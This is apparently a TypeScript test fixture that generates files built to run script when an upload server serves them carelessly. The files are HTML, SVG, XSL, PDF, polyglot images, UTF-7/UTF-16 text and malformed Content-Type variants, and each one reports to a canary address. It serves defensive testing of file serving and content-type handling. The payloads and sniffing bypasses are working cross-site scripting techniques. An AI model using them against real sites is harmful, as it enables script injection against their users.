/** Files that would run script, or be run as one, where they are served carelessly; each asks its own canary. */
import { gzipSync } from 'node:zlib';
import { fixture } from './requests.ts';

export interface HostileFile {
  /** Also the path that its script would ask for. */
  readonly name: string;
  /** As sent in `Content-Type`; null sends none. */
  readonly type: string | null;
  readonly filename: string;
  readonly bytes: Uint8Array;
}

/** Runs as a document's script, as a script of another page, and in a worker. No policy forbids the last two lines of it. */
export function hostileScript(canary: string): string {
  return `(()=>{const at='${canary}';
try{document.title='ran'}catch(e){}
try{document.cookie='ran=1'}catch(e){}
try{localStorage.setItem('ran','1')}catch(e){}
try{top.document.title='ran'}catch(e){}
try{fetch(at,{mode:'no-cors'})}catch(e){}
try{new Image().src=at}catch(e){}
try{location.href=at}catch(e){}
try{window.open(at)}catch(e){}})()`;
}

/** @param canary the address below which each file's name is asked for */
export function hostileFiles(canary: string): readonly HostileFile[] {
  const files: HostileFile[] = [];
  const add = (
    name: string,
    type: string | null,
    filename: string,
    bytes: (script: string) => string | Uint8Array,
  ): void => {
    const made = bytes(hostileScript(`${canary}/${name}`));
    files.push({ name, type, filename, bytes: typeof made === 'string' ? Buffer.from(made) : made });
  };
  const page = (script: string): string =>
    `<!doctype html><html><body onload="${script.replaceAll('\n', '')}"><script>${script}</script></body></html>`;
  const xhtml = (script: string): string =>
    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title><script>//<![CDATA[\n${script}\n//]]></script></head><body/></html>`;
  const svg = (script: string): string =>
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${script.replaceAll('\n', '')}"><script>//<![CDATA[\n${script}\n//]]></script><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.eval(1)&lt;/script&gt;"/></foreignObject></svg>`;
  const sheet = (script: string): string =>
    `<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>${script.replaceAll('&', '&amp;')}</script></html></xsl:template></xsl:stylesheet>`;
  const utf16 = (text: string): Uint8Array => Buffer.from(`\u{feff}${text}`, 'utf16le');

  const htmlTypes: readonly (string | null)[] = [
    'text/html',
    'TEXT/HTML',
    'text/html;',
    'text/html ;a',
    'text/html;charset=utf-7',
    'text/html\tx',
    ',text/html',
    'text/html,text/plain',
    'text/plain, text/html',
    'text/html;boundary="',
    'text/html/x',
    'text',
    null,
    'application/octet-stream',
    'application/x-www-form-urlencoded',
    'application/xhtml+xml',
    'text/xml',
    'text/cache-manifest',
    'text/plain',
    'text/markdown',
    'text/csv',
    'image/png',
    'image/svg+xml',
    'image/svg+xml;charset=x',
    'image/x-none',
    'video/mp4',
    'audio/mpeg',
    'application/pdf',
    'font/woff2',
    'application/json',
    'message/rfc822',
    'unknown/unknown',
  ];
  const names = ['evil.html', 'evil.html.', 'evil', 'evil.xht', 'evil.svg', 'evil.txt', 'evil.htm\u0000.png'];
  htmlTypes.forEach((type, index) => {
    add(`page-${index}`, type, names[index % names.length] ?? 'evil', page);
  });
  for (const [index, type] of [
    'application/xhtml+xml',
    'application/xml',
    'text/xml',
    null,
    'text/html',
  ].entries())
    add(`xhtml-${index}`, type, index % 2 ? 'evil.xhtml' : 'evil.xht', xhtml);
  for (const [index, type] of [
    'image/svg+xml',
    'image/svg+xml;charset=x',
    'IMAGE/SVG+XML; x="y"',
    'application/xml',
    'image/png',
    'text/plain',
    null,
  ].entries())
    add(`svg-${index}`, type, index % 2 ? 'evil.svg' : 'evil.svg.', svg);
  add('svg-without-prefix', 'image/svg+xml', 'evil.svg', (script) => `\n <!-- x -->${svg(script)}`);
  add('svgz', 'image/svg+xml', 'evil.svgz', (script) => gzipSync(svg(script)));
  add('svg-utf-16', 'image/svg+xml', 'evil.svg', (script) => utf16(svg(script)));
  add('xsl', 'text/xsl', 'evil.xsl', sheet);
  add('xslt', 'application/xslt+xml', 'evil.xslt', sheet);
  add(
    'xml-with-style-sheet',
    'application/xml',
    'evil.xml',
    (script) =>
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,${encodeURIComponent(sheet(script))}"?><x/>`,
  );
  add(
    'multipart',
    'multipart/x-mixed-replace; boundary=x',
    'evil',
    (script) => `--x\r\nContent-Type: text/html\r\n\r\n${page(script)}\r\n--x--\r\n`,
  );
  add(
    'mail',
    'message/rfc822',
    'evil.mht',
    (script) => `From: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${page(script)}`,
  );
  add('utf-7', 'text/plain', 'evil.txt', (script) => `+ADw-script+AD4-${script}+ADw-/script+AD4-`);
  add('utf-7-said', 'text/plain;charset=utf-7', 'evil.txt', (script) => `+ADw-script+AD4-${script}`);
  add('utf-16', 'text/plain', 'evil.txt', (script) => utf16(page(script)));
  add('utf-16-undeclared', null, 'evil.html', (script) => utf16(page(script)));
  add(
    'pdf',
    'application/pdf',
    'evil.pdf',
    (script) =>
      `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("${canary}/pdf"\\);)>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/URI/URI(javascript:${script.replaceAll('\n', '').replaceAll(/[()\\]/g, '\\$&')})>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
  );
  add('pdf-page', 'text/html', 'evil.html', (script) => `%PDF-1.4\n${page(script)}`);
  add('gif-script', 'text/javascript', 'evil.gif', (script) => `GIF89a=1;${script}`);
  add('gif-page', 'text/html', 'evil.gif', (script) => `GIF89a${page(script)}`);
  add('jpeg-page', 'text/html', 'evil.jpg', (script) =>
    Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0x02, 0x00]), Buffer.from(page(script))]),
  );
  add('png-with-page', 'text/html', 'evil.png', (script) =>
    Buffer.concat([fixture('picture.png'), Buffer.from(page(script))]),
  );
  for (const [index, type] of [
    'text/javascript',
    'application/javascript;charset=utf-8',
    'text/ecmascript',
    'application/json',
    'text/plain',
    'text/css',
    null,
  ].entries())
    add(`script-${index}`, type, 'evil.js', (script) => script);
  add('module', 'text/javascript', 'evil.mjs', (script) => `${script};export default 1;`);
  add('style', 'text/css', 'evil.css', () => `body{background:url("${canary}/style")}`);
  return files;
}
